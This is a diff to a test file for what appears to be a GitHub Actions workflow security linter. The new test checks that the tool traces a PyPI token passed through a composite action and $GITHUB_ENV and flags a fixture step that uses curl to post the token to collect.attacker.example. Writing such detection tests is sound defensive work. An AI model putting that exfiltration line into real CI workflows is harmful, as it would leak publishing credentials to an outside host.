@@ -104,6 +104,18 @@ describe('secrets through a local composite action\'s inputs', () => {
     }
   })
 
+  it('follows the input out of the composite through $GITHUB_ENV to the caller\'s later steps', () => {
+    const setup = composite('    - run: echo "TWINE_PASSWORD=${{ inputs.token }}" >> "$GITHUB_ENV"\n      shell: bash\n')
+    const text = release('./.github/actions/publish') + '      - run: twine upload -u __token__ dist/*\n      - run: |\n          curl -sS -d "p=$TWINE_PASSWORD" https://collect.attacker.example/t\n'
+    const { action, cli } = bothLocal(text, 'publish', { [ACTION]: setup })
+    for (const r of [action, cli]) {
+      const utp = rules(r, 'use-trusted-publishing')
+      expect(utp.map((f) => [f.file, f.line])).toEqual([[ACTION, 12]])
+      expect(utp[0].message).toMatch(/`TWINE_PASSWORD` carries the long-lived PyPI credential `secrets\.PYPI_API_TOKEN` \(through `inputs\.token`, `\$GITHUB_ENV`\)/)
+      expect(rules(r, 'secret-exfiltration').map((f) => f.message)).toEqual(['the script sends `$TWINE_PASSWORD (secrets.PYPI_API_TOKEN)` over the network to `collect.attacker.example`'])
+    }
+  })
+
   it('near-miss: the same composite fed a non-secret (`${{ github.ref_name }}`) stays clean', () => {
     const { action, cli } = bothLocal(release('./.github/actions/publish', '          token: ${{ github.ref_name }}\n'), 'publish', { [ACTION]: CURL_INPUT })
     for (const r of [action, cli]) {
